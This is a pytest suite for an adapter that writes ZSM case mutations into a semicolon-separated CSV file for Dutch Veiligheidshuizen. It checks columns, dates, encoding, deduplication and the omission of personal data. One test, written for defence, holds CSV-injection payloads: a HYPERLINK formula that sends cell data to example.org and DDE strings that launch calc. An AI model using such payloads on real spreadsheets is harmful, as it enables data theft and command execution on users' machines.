"""Write-back into Amazone: one mutatie row per delivered item, exactly once, footer counted."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
from pathlib import Path

import pytest

from adapters.amazone.deliver import COLUMNS, MutationFileError, deliver
from adapters.records import Delivery, OtherHouse, Person

UTC = dt.UTC
HEADER = ";".join(COLUMNS) + ";"

DECISION = Delivery(
    key="d-7f3a9c21",
    house_id="vh-twente",
    kind="decision",
    case_reference="ZSM-2024-10-0311",
    occurred=dt.datetime(2024, 10, 14, 9, 30, tzinfo=UTC),
    source_record_id="AMZ-2024-000311",
    zsm_location="ZSM Oost-Nederland",
    decision="dagvaarding",
    decision_text="Dagvaarden politierechter",
    final=True,
    advice_followed=True,
    other_houses=1,
    probation_report_requested=True,
    minor=False,
    person=Person("111222333", "Jansen", dt.date(1994, 3, 12)),  # never written for a decision
)
SIGNAL = Delivery(
    key="d-7f3a9c30",
    house_id="vh-gelderland-midden-arnhem",
    kind="signal",
    case_reference="ZSM-2024-10-0400",
    occurred=dt.datetime(2024, 10, 15, 22, 45, tzinfo=UTC),  # 16 October in Amsterdam
    source_record_id="AMZ-2024-000312",
    zsm_location="ZSM Arnhem",
    person=Person("111222333", "Jansen", dt.date(1994, 3, 12)),
)
REFERRAL = Delivery(
    key="d-7f3a9c40",
    house_id="vh-gelderland-zuid-nijmegen",
    kind="referral",
    case_reference="ZSM-2024-10-0500",
    occurred=dt.datetime(2024, 10, 16, 11, 0, tzinfo=UTC),
    zsm_location="ZSM Nijmegen",
    person=Person("123456782", "van der Berg", dt.date(2006, 7, 4)),
    referral_reason="Verward gedrag; schulden, geen vaste woon- of verblijfplaats.",
)
ADVICE_REQUEST = Delivery(
    key="d-7f3a9c50",
    house_id="vh-ijsselland",
    kind="advice-request",
    case_reference="ZSM-2024-10-0600",
    occurred=dt.datetime(2024, 10, 17, 8, 0, tzinfo=UTC),
    source_record_id="AMZ-2024-000400",
    due=dt.datetime(2024, 10, 18, 8, 0, tzinfo=UTC),
)

MATCH = Delivery(
    key="mat-7f3a9c60",
    house_id="vh-twente",
    kind="match",
    case_reference="",
    occurred=dt.datetime(2024, 10, 18, 23, 15, tzinfo=UTC),  # 19 October in Amsterdam
    source_record_id="AMZ-2024-000311",
    person=Person("111222333", "Jansen", dt.date(1994, 3, 12)),  # never written for a match
    other_house=OtherHouse(
        house_id="vh-rotterdam-rijnmond",
        display_name="Veiligheidshuis Rotterdam-Rijnmond",
        target_group="top_x",
        contact_role="Procesregisseur ZSM-contact",
        email="zsm@vhrr.example",
        phone="+31 10 999 0101",
        after_hours_phone="+31 10 999 0199",
    ),
)


def _rows(path: Path) -> list[dict[str, str]]:
    """The data rows as dicts by column; asserts header, `;` endings, CRLF and the footer."""
    raw = path.read_bytes()
    assert raw.endswith(b"\r\n")
    assert b"\n" not in raw.replace(b"\r\n", b"")
    lines = list(csv.reader(io.StringIO(raw.decode("cp1252"), newline=""), delimiter=";"))
    assert lines[0] == [*COLUMNS, ""]
    *records, footer = lines[1:]
    assert footer == [f"Aantal mutaties: {len(records)}"]
    assert all(row[-1] == "" and len(row) == len(COLUMNS) + 1 for row in records)
    return [dict(zip(COLUMNS, row, strict=False)) for row in records]


def _filled(row: dict[str, str]) -> dict[str, str]:
    return {column: value for column, value in row.items() if value}


def test_decision_is_one_row_without_bsn_or_name(tmp_path: Path) -> None:
    path = tmp_path / "mutaties.csv"
    assert deliver(path, DECISION) is True
    [row] = _rows(path)
    assert _filled(row) == {
        "Registratienummer": "AMZ-2024-000311",
        "Veiligheidshuis": "VHTW",
        "Soort mutatie": "ZSM-beslissing",
        "Datum": "14-10-2024",
        "Zaaknummer": "ZSM-2024-10-0311",
        "ZSM-locatie": "ZSM Oost-Nederland",
        "Beslissing": "Dagvaarden",
        "Toelichting": "Dagvaarden politierechter",
        "Afdoening": "ja",
        "Minderjarige": "nee",
        "Rapport reclassering gevraagd": "ja",
        "Advies gevolgd": "ja",
        "Andere veiligheidshuizen": "1",
        "Kenmerk Baken": "d-7f3a9c21",
    }
    assert b"111222333" not in path.read_bytes()
    assert b"Jansen" not in path.read_bytes()


def test_decision_not_following_advice_carries_the_reason(tmp_path: Path) -> None:
    path = tmp_path / "mutaties.csv"
    reason = "Verdachte ontkent; geen aangifte partner, HG-advies niet uitvoerbaar."
    deliver(path, dataclasses.replace(DECISION, advice_followed=False, deviation_reason=reason))
    [row] = _rows(path)
    assert (row["Advies gevolgd"], row["Reden afwijking"]) == ("nee", reason)


@pytest.mark.parametrize(
    ("code", "beslissing"),
    [("sepot-02", "Sepot 02"), ("halt", "Halt"), ("Reprimande", "Reprimande"), ("ots", "ots")],
)
def test_decision_codes_are_written_as_zsm_names_them(
    tmp_path: Path, code: str, beslissing: str
) -> None:
    path = tmp_path / "mutaties.csv"
    deliver(path, dataclasses.replace(DECISION, decision=code, advice_followed=None, minor=True))
    [row] = _rows(path)
    assert (row["Beslissing"], row["Advies gevolgd"]) == (beslissing, "geen advies")
    assert row["Minderjarige"] == "ja"


def test_signal_is_dated_in_amsterdam(tmp_path: Path) -> None:
    path = tmp_path / "mutaties.csv"
    deliver(path, SIGNAL)
    [row] = _rows(path)
    assert _filled(row) == {
        "Registratienummer": "AMZ-2024-000312",
        "Veiligheidshuis": "VHGMA",
        "Soort mutatie": "ZSM-instroom",
        "Datum": "16-10-2024",
        "Zaaknummer": "ZSM-2024-10-0400",
        "ZSM-locatie": "ZSM Arnhem",
        "Kenmerk Baken": "d-7f3a9c30",
    }
    assert b"111222333" not in path.read_bytes()


def test_match_names_the_other_house_whom_to_call_and_nothing_else(tmp_path: Path) -> None:
    path = tmp_path / "mutaties.csv"
    assert deliver(path, MATCH)
    assert not deliver(path, MATCH)  # once per Kenmerk Baken
    [row] = _rows(path)
    assert _filled(row) == {
        "Registratienummer": "AMZ-2024-000311",
        "Veiligheidshuis": "VHTW",
        "Soort mutatie": "Matchingsmelding",
        "Datum": "19-10-2024",
        "Ander veiligheidshuis": "Veiligheidshuis Rotterdam-Rijnmond",
        "Doelgroep ander veiligheidshuis": "Top X",
        "Contact functie": "Procesregisseur ZSM-contact",
        "Contact telefoon": "'+31 10 999 0101",  # inert: no formula
        "Contact telefoon piket": "'+31 10 999 0199",
        "Contact e-mail": "zsm@vhrr.example",
        "Kenmerk Baken": "mat-7f3a9c60",
    }
    assert b"111222333" not in path.read_bytes()


@pytest.mark.parametrize(
    ("other", "field"),
    [
        (None, "other_house"),
        ({"house_id": ""}, "other_house.house_id"),
        ({"display_name": ""}, "other_house.display_name"),
        ({"phone": None, "after_hours_phone": None, "email": ""}, "other_house.phone"),
        ({"target_group": "onbekend"}, "other_house.target_group"),
        ({"display_name": "Veiligheidshuis ≥ 1"}, "Ander veiligheidshuis"),
    ],
)
def test_a_malformed_match_is_refused_naming_the_field(
    tmp_path: Path, other: dict[str, object] | None, field: str
) -> None:
    path = tmp_path / "mutaties.csv"
    assert MATCH.other_house is not None
    house = None if other is None else dataclasses.replace(MATCH.other_house, **other)  # type: ignore[arg-type]
    with pytest.raises(ValueError, match=f"^{field}: "):
        deliver(path, dataclasses.replace(MATCH, other_house=house))
    assert not path.exists()


@pytest.mark.parametrize(
    "added",
    [
        ("Andere veiligheidshuizen", "Ander ", "Doelgroep ander", "Contact "),  # before matches
        ("Andere veiligheidshuizen",),  # with matches, before the number of other houses told
    ],
)
def test_a_file_written_before_the_later_columns_takes_them(
    tmp_path: Path, added: tuple[str, ...]
) -> None:
    """A mutatie file not yet collected when the adapter learned the match columns, or the
    number of other houses told of a decision, is read with them empty and rewritten with them."""
    old_columns = [c for c in COLUMNS if not c.startswith(added)]
    old = [*old_columns, ""]
    row = dict.fromkeys(old_columns, "") | {
        "Registratienummer": "AMZ-2024-000312",
        "Veiligheidshuis": "VHGMA",
        "Soort mutatie": "ZSM-instroom",
        "Datum": "16-10-2024",
        "Kenmerk Baken": "d-7f3a9c30",
    }
    path = tmp_path / "mutaties.csv"
    lines = [";".join(old), ";".join([*row.values(), ""]), "Aantal mutaties: 1", ""]
    path.write_bytes("\r\n".join(lines).encode("cp1252"))

    assert not deliver(path, SIGNAL)  # found by its key in the old file
    assert deliver(path, MATCH)
    assert deliver(path, DECISION)
    first, second, third = _rows(path)
    assert _filled(first) == _filled(row)
    assert second["Kenmerk Baken"] == "mat-7f3a9c60"
    assert third["Andere veiligheidshuizen"] == "1"


def test_referral_carries_the_person(tmp_path: Path) -> None:
    path = tmp_path / "mutaties.csv"
    deliver(path, REFERRAL)
    [row] = _rows(path)
    assert _filled(row) == {
        "Veiligheidshuis": "VHGZN",
        "Soort mutatie": "ZSM-aanmelding",
        "Datum": "16-10-2024",
        "Zaaknummer": "ZSM-2024-10-0500",
        "ZSM-locatie": "ZSM Nijmegen",
        "BSN": "123456782",
        "Achternaam": "Berg",
        "Tussenvoegsel": "van der",
        "Geboortedatum": "04-07-2006",
        "Reden aanmelding": "Verward gedrag; schulden, geen vaste woon- of verblijfplaats.",
        "Kenmerk Baken": "d-7f3a9c40",
    }


def test_advice_request_carries_its_term(tmp_path: Path) -> None:
    path = tmp_path / "mutaties.csv"
    deliver(path, ADVICE_REQUEST)
    [row] = _rows(path)
    assert _filled(row) == {
        "Registratienummer": "AMZ-2024-000400",
        "Veiligheidshuis": "VHIJS",
        "Soort mutatie": "ZSM-adviesaanvraag",
        "Datum": "17-10-2024",
        "Zaaknummer": "ZSM-2024-10-0600",
        "Advies uiterlijk": "18-10-2024 10:00",
        "Kenmerk Baken": "d-7f3a9c50",
    }


def test_a_withdrawn_advice_request_names_the_request(tmp_path: Path) -> None:
    path = tmp_path / "mutaties.csv"
    withdrawn = dataclasses.replace(
        ADVICE_REQUEST,
        key="d-7f3a9c51",
        kind="advice-request-cancelled",
        due=None,
        advice_request="adviceRequests/abc123",
    )
    deliver(path, ADVICE_REQUEST)
    deliver(path, withdrawn)
    [_, row] = _rows(path)
    assert _filled(row) == {
        "Registratienummer": "AMZ-2024-000400",
        "Veiligheidshuis": "VHIJS",
        "Soort mutatie": "ZSM-adviesaanvraag ingetrokken",
        "Datum": "17-10-2024",
        "Zaaknummer": "ZSM-2024-10-0600",
        "Toelichting": "adviceRequests/abc123",
        "Kenmerk Baken": "d-7f3a9c51",
    }
    with pytest.raises(ValueError, match=r"^advice_request"):
        deliver(path, dataclasses.replace(withdrawn, key="d-x", advice_request=None))


def test_a_redelivery_writes_nothing(tmp_path: Path) -> None:
    path = tmp_path / "mutaties.csv"
    assert deliver(path, DECISION) is True
    before = path.read_bytes()
    assert deliver(path, DECISION) is False
    assert deliver(path, dataclasses.replace(DECISION, decision_text="anders")) is False
    assert path.read_bytes() == before


def test_footer_counts_every_delivery_in_order(tmp_path: Path) -> None:
    path = tmp_path / "mutaties.csv"
    items = [DECISION, SIGNAL, REFERRAL, ADVICE_REQUEST]
    for item in [*items, SIGNAL, DECISION]:
        deliver(path, item)
    assert [row["Kenmerk Baken"] for row in _rows(path)] == [item.key for item in items]
    assert path.read_bytes().decode("cp1252").startswith(HEADER + "\r\n")
    assert path.read_bytes().endswith(b"Aantal mutaties: 4\r\n")


def test_a_temp_file_left_by_a_crash_does_not_break_the_next_delivery(tmp_path: Path) -> None:
    path = tmp_path / "mutaties.csv"
    deliver(path, DECISION)
    (tmp_path / ".mutaties.csv.tmp").write_bytes(b"Registratienummer;Veiligheids")
    assert deliver(path, DECISION) is False
    assert deliver(path, SIGNAL) is True
    assert [row["Kenmerk Baken"] for row in _rows(path)] == [DECISION.key, SIGNAL.key]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mutaties.csv"]


def test_an_empty_file_left_after_collection_starts_afresh(tmp_path: Path) -> None:
    path = tmp_path / "mutaties.csv"
    path.write_bytes(b"")
    assert deliver(path, SIGNAL) is True
    assert len(_rows(path)) == 1


@pytest.mark.parametrize(
    "content",
    [
        b"iets anders;\r\n",
        HEADER.encode() + b"\r\n",  # footer missing
        HEADER.encode() + b"\r\nAantal mutaties: 2\r\n",
        HEADER.encode() + b"\r\n\x81\r\nAantal mutaties: 0\r\n",
    ],
    ids=["header", "footer missing", "footer count", "not cp1252"],
)
def test_a_file_that_is_not_a_mutatie_file_is_left_alone(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "mutaties.csv"
    path.write_bytes(content)
    with pytest.raises(MutationFileError):
        deliver(path, DECISION)
    assert path.read_bytes() == content


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"house_id": "vh-rotterdam-rijnmond"}, "house_id"),
        ({"kind": "e-mail"}, "kind"),
        ({"decision": None}, "decision"),
        ({"decision": "  "}, "decision"),
        ({"decision": "sepot-01"}, "decision"),
        ({"decision": "Sepot 01"}, "decision"),
        ({"source_record_id": None}, "source_record_id"),
        ({"advice_followed": False}, "deviation_reason"),
        ({"deviation_reason": "toch niet"}, "deviation_reason"),
        ({"occurred": dt.datetime(2024, 10, 14, 9, 30)}, "occurred"),
        ({"key": ""}, "key"),
        ({"kind": "referral", "person": None}, "person"),
        ({"kind": "referral", "person": Person(None, None, None)}, "person"),
        ({"kind": "advice-request", "due": None, "other_houses": None}, "due"),
        ({"kind": "advice-request", "due": DECISION.occurred}, "other_houses"),
        ({"other_houses": -1}, "other_houses"),
        ({"decision_text": "Advies ≥ 6 maanden"}, "Toelichting"),
    ],
)
def test_a_delivery_amazone_cannot_take_is_refused(
    tmp_path: Path, change: dict[str, object], field: str
) -> None:
    path = tmp_path / "mutaties.csv"
    delivery = dataclasses.replace(DECISION, **change)  # type: ignore[arg-type]
    with pytest.raises(ValueError, match=f"^{field}: "):
        deliver(path, delivery)
    assert not path.exists()


def test_cp1252_characters_are_single_bytes(tmp_path: Path) -> None:
    path = tmp_path / "mutaties.csv"
    text = 'Çelik: \u2018Aware\u2019 inzetten, schuld € 4.500; naïef "meeloper"'
    person = Person("123456782", "Boëseken", dt.date(2009, 2, 5))
    deliver(path, dataclasses.replace(DECISION, decision_text=text))
    deliver(path, dataclasses.replace(REFERRAL, person=person, referral_reason="Yıldız"))
    raw = path.read_bytes()
    assert "€ 4.500".encode("cp1252") in raw
    assert "ë".encode() not in raw
    decision, referral = _rows(path)
    assert decision["Toelichting"] == text
    assert (referral["Achternaam"], referral["Reden aanmelding"]) == ("Boëseken", "Yildiz")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://example.org/?d="&A1,"Zie dossier")',
        "+31 6 1234",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "  =1+1",
    ],
)
def test_no_cell_written_for_a_house_can_start_a_formula(tmp_path: Path, text: str) -> None:
    """The attack: a deviation reason (or any text ZSM sends) written verbatim became a live
    formula in the house's spreadsheet (CSV injection); now it is text, as OWASP advises."""
    path = tmp_path / "mutaties.csv"
    delivery = dataclasses.replace(
        DECISION,
        key="-d-7f3a9c21",
        advice_followed=False,
        deviation_reason=text,
        decision_text=text,
        zsm_location=text,
    )

    assert deliver(path, delivery) is True
    assert deliver(path, delivery) is False  # the neutralised key still finds the row

    [row] = _rows(path)
    for column in ("Reden afwijking", "Toelichting", "ZSM-locatie"):
        assert row[column] == "'" + text.strip() if column == "Reden afwijking" else "'" + text
    assert row["Kenmerk Baken"] == "'-d-7f3a9c21"
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    assert not any(cell.lstrip(" ").startswith(formula_starts) for cell in row.values())


def test_an_enrichment_request_is_a_row_with_the_person_and_no_registratienummer(
    tmp_path: Path,
) -> None:
    path = tmp_path / "mutaties.csv"
    enrichment = dataclasses.replace(
        ADVICE_REQUEST,
        source_record_id=None,
        question="Is het gezin bij jullie in beeld?",
        person=Person("123456782", "van der Berg", dt.date(2006, 7, 4)),
        referral_reason="verrijkingsverzoek; triagecriteria: huiselijk geweld",
    )
    assert deliver(path, enrichment) is True
    [row] = _rows(path)
    assert (row["Soort mutatie"], row["Registratienummer"]) == ("ZSM-adviesaanvraag", "")
    assert (row["BSN"], row["Tussenvoegsel"], row["Achternaam"]) == (
        "123456782",
        "van der",
        "Berg",
    )
    assert row["Geboortedatum"] == "04-07-2006"
    assert row["Reden aanmelding"] == "verrijkingsverzoek; triagecriteria: huiselijk geweld"
    assert row["Advies uiterlijk"] and row["Toelichting"] == "Is het gezin bij jullie in beeld?"
